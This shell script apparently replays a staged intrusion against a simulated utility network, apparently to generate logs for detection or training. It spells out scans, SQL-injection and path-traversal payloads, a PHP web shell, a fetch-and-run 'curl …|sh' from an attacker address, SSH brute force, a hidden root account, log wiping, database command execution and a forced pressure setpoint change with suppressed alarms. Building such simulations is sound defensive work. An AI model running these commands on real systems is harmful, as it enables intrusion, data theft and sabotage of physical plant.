# The attack: from the Internet to the web server and the administration host,
# from there to the database and the plant. attack plays all of it.

attack() {
	clock 12:04:00
	life_between
	clock 12:06:10
	attack_scan
	clock 12:11:30
	attack_web
	life_between
	clock 12:18:05
	attack_login
	clock 12:27:40
	attack_root
	life_between
	clock 12:36:20
	attack_database
	clock 12:41:00
	attack_plant
	clock 12:48:30
	attack_supply
	life_between
}

life_between() {
	visitors 3
	gateway_polls
	billing
}

attack_scan() {
	on inet nmap -n -Pn -sS -S 203.0.113.77 -e eth0 -T4 --top-ports 200 --max-retries 0 203.0.113.1 >/dev/null
}

attack_web() {
	local path
	for path in /.env /.git/config /wp-login.php /phpmyadmin/ /admin/ /backup.zip /server-status /cgi-bin/test.cgi; do
		web 203.0.113.77 "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)" $path
		sleep 0.2
	done
	for path in "/index?id=1%20UNION%20SELECT%20username,password%20FROM%20users--" "/tariffs/home?id=1'%20OR%20'1'='1" \
		"/tariffs/home?id=1%20AND%20SLEEP(5)" "/news/2026-03?q=%3Cscript%3Ealert(1)%3C/script%3E"; do
		web 203.0.113.77 "sqlmap/1.8.2#stable (https://sqlmap.org)" "$path"
		sleep 0.4
	done
	for path in /../../../../etc/passwd /img/..%2f..%2f..%2fetc%2fpasswd /..%252f..%252fetc/passwd '/index?file=../../../../etc/shadow'; do
		web 203.0.113.77 "curl/7.88.1" "$path"
	done
	on inet curl -s -o /dev/null --interface 203.0.113.77 -X PUT -d '<?php system($_GET["cmd"]);' http://203.0.113.1/uploads/meter.php
	web 203.0.113.77 "curl/7.88.1" "/uploads/meter.php?cmd=id"
	web 203.0.113.77 "curl/7.88.1" "/uploads/meter.php?cmd=cat%20/etc/passwd"
	web 203.0.113.77 "curl/7.88.1" "/uploads/meter.php?cmd=curl%20http://203.0.113.77/x.sh%7Csh"
}

# attack_login guesses until a weak password fits, then comes back with it.
attack_login() {
	printf '%s\n' admin oracle test pi root mkern >$run/users
	printf '%s\n' 123456 password letmein qwerty admin123 water2024 changeme summer2025 >$run/passwords
	on inet hydra -I -q -t 4 -W 1 -L $run/users -P $run/passwords ssh://203.0.113.1 >$run/hydra.out 2>&1 || true
	sleep 2
	from_outside 'id; uname -a'
}

from_outside() {
	on inet sshpass -p summer2025 ssh -q -o PubkeyAuthentication=no -o StrictHostKeyChecking=no \
		-o UserKnownHostsFile=/dev/null mkern@203.0.113.1 "$@" >/dev/null 2>&1 || true
}

attack_root() {
	from_outside 'printf "a\nb\nc\n" | sudo -S -p "" /usr/bin/id'
	from_outside 'as() { echo summer2025 | sudo -S -p "" "$@"; }
		as /usr/bin/cat /etc/shadow
		as /usr/sbin/useradd -o -u 0 -g 0 -M -N -s /bin/bash sysupd
		as /usr/sbin/usermod -aG sudo backup-web
		as /usr/bin/curl -s -m 2 -o /tmp/.x http://203.0.113.77/x.sh
		as /usr/bin/chmod 4755 /tmp/.x
		as /usr/bin/truncate -s 0 /var/log/wtmp'
}

attack_database() {
	local user
	for user in postgres zabbix billing billing billing; do
		on adm01 env PGPASSWORD=guess-$RANDOM psql -h 10.0.11.30 -U $user -d billing -c 'select 1' >/dev/null 2>&1 || true
	done
	on adm01 env PGPASSWORD=ebb-9 psql -h 10.0.11.30 -U billing -d billing -c "copy (select 1) to program 'id'" \
		-c "select * from pg_shadow" -c "drop table meter" >/dev/null 2>&1 || true
}

# attack_plant tries the controllers directly, which the firewall drops, and
# then goes through the gateway. The gateway's lines are ours, not a product's.
attack_plant() {
	local i
	for i in 5 11 12 13 14; do on adm01 nc -z -w 1 10.0.50.$i 502 || true; done
	on web01 nc -z -w 1 203.0.113.77 4444 || true
	say scada-gw 640 local0.warning "session opened from 10.0.10.20 as engineer, address not in list of panels"
	say modbus-proxy 671 local0.warning "write from 10.0.10.20 not allowed: unit=3 fc=6 addr=40021 value=59"
	say modbus-proxy 671 local0.warning "write from 10.0.10.20 not allowed: unit=3 fc=16 addr=40021 count=4"
	say modbus-proxy 671 local0.err "write from 10.0.10.20 accepted in service mode: unit=3 fc=16 addr=40021 count=4"
	say scada-gw 640 local0.warning "setpoint P2.PRESSURE changed from 3.2 to 5.9 bar by engineer at 10.0.10.20"
	sleep 2
	say scada-gw 640 local0.crit "alarm 1201 PRESSURE HIGH outlet raised, 5.4 bar"
	say scada-gw 640 local0.err "alarm 1201 PRESSURE HIGH outlet suppressed by engineer at 10.0.10.20"
	say rtu-poller 812 local0.err "plc-3 poll failed: connection reset by peer, unit offline"
	say scada-gw 640 local0.notice "setpoint P2.PRESSURE changed from 5.9 to 3.2 bar by mruiz at panel HMI-1"
}

# attack_supply stops the monitoring agent and the database for a moment.
attack_supply() {
	kill "$(cat $run/zbx01/z/agentd.pid)"
	sleep 8
	postgresql_down
	sleep 12
	postgresql_up
	sleep 12
	agent_up
}
